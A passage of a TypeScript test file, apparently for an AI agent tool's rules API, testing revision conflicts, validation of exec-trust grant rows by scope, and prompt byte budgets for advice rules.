    expect((await setRules(session, { rules: [RULE], expected_revision: first })).status).toBe(200);
    const bytes = readFileSync(project, "utf8");
    const nonce = await agent.nonce(session, "rules_set");
    const late = { session_id: session, nonce, rules: [], expected_revision: first };
    const conflict = await agent.call("POST", "/hooks/rules", { body: late });
    expect(outcomeOf(conflict)).toEqual([409, "revision_conflict"]);
    expect(detailsOf(conflict)["current_revision"]).toBe(await read());
    expect(readFileSync(project, "utf8")).toBe(bytes);
    const again = await agent.call("POST", "/hooks/rules", {
      body: { ...late, expected_revision: null },
    });
    expect(outcomeOf(again)).toEqual([400, "bad_request"]);
    expect((await setRules(session, { rules: [], expected_revision: null })).status).toBe(200);
    // a realm's revision is its own
    const scoped = await agent.session({ cwd, realm: REALM });
    const foreign = await setRules(scoped, { rules: [], expected_revision: await read() });
    expect(outcomeOf(foreign)).toEqual([409, "revision_conflict"]);
  });

  test("grants are rows of the user scope, written with the rules or alone", async ({ expect }) => {
    const { cwd, session } = await fresh();
    const row = { container_id: REALM, realm: "_global" };
    for (const exec_trust of [
      [{ ...row, container_id: "workspace" }],
      [{ ...row, realm: "global" }],
      [{ ...row, name: "x".repeat(129) }],
      [{ ...row, granted_at: "now" }],
      [{ ...row, source: "other" }],
      [row, row],
      Array.from({ length: 65 }, (_, i) => ({ ...row, container_id: String(i).padStart(24, "0") })),
    ]) {
      expect(outcomeOf(await setRules(session, { exec_trust }, "user"))).toEqual([
        400,
        "bad_request",
      ]);
    }
    expect(outcomeOf(await setRules(session, { exec_trust: [row] }, "project"))).toEqual([
      400,
      "bad_request",
    ]);
    const before = revisionOf((await getRules()).rules, "user");
    const named = { ...row, name: "runner", granted_at: "2024-09-14T12:00:00Z" };
    expect((await setRules(session, { exec_trust: [named] }, "user")).status).toBe(200);
    const { rules } = await getRules();
    expect(rules["exec_trust"]).toEqual([{ ...named, source: "rules_panel" }]);
    expect(revisionOf(rules, "user")).not.toBe(before);
    expect((await setRules(session, { exec_trust: [] }, "user")).status).toBe(200);
    expect((await getRules()).rules["exec_trust"]).toEqual([]);
    const other = join(cwd, "other");
    const overridden = await agent.session({ cwd, config_dir: other });
    expect((await setRules(overridden, { exec_trust: [row] }, "user")).status).toBe(200);
    expect((await getRules({ "x-hoody-config-dir": other })).rules["exec_trust"]).toMatchObject([
      row,
    ]);
    expect((await getRules()).rules["exec_trust"]).toEqual([]);
  });

  test("advice is for the prompt: outside the hash, within its bytes, read afresh", async ({
    expect,
  }) => {
    const { cwd, session, project } = await fresh();
    const hash = async () => ((await list(session)).json["trust"] as Json)["hash"];
    const applies = async (id = session, query = "") =>
      (await agent.call("GET", `/sessions/${id}/rules/applies${query}`)).json;
    const before = await hash();
    const advice = { id: "kind", text: "Be kind.", kind: "playbook" };
    await setRules(session, { rules: [advice, { ...advice, id: "first", kind: "guidance" }] });
    expect(await hash()).toBe(before);
    expect(await applies()).toMatchObject({
      rules: [{ id: "first" }, { id: "kind" }],
      active: false,
      prompt_budget_bytes: 8192,
      prompt_over_budget: [],
    });
    await setRules(session, { rules: [RULE] });
    expect(await hash()).not.toBe(before);
    // an edit of the file is in the next prompt; what is checked stays until it is loaded
    const long = Array.from({ length: 20 }, (_, i) => ({
      ...advice,
      id: `p${i}`,
      text: "x".repeat(480),
    }));
    save(project, { version: 1, rules: [...long, { ...RULE, id: "later" }] });
    const { rules, prompt_over_budget } = (await applies()) as {
      rules: Json[];
      prompt_over_budget: string[];
    };
    expect(rules.map((rule) => rule["id"])).toEqual([
      RULE.id,
      ...long.slice(0, 16).map(({ id }) => id),
    ]);
    expect(prompt_over_budget).toEqual(["p16", "p17", "p18", "p19"]);
    save(project, { version: 1, rules: [advice], prompt_blocks: { team_rules: false } });
    expect(await applies(await agent.session({ cwd }))).toMatchObject({
      prompt_off: true,
      rules: [],
    });
  });
});
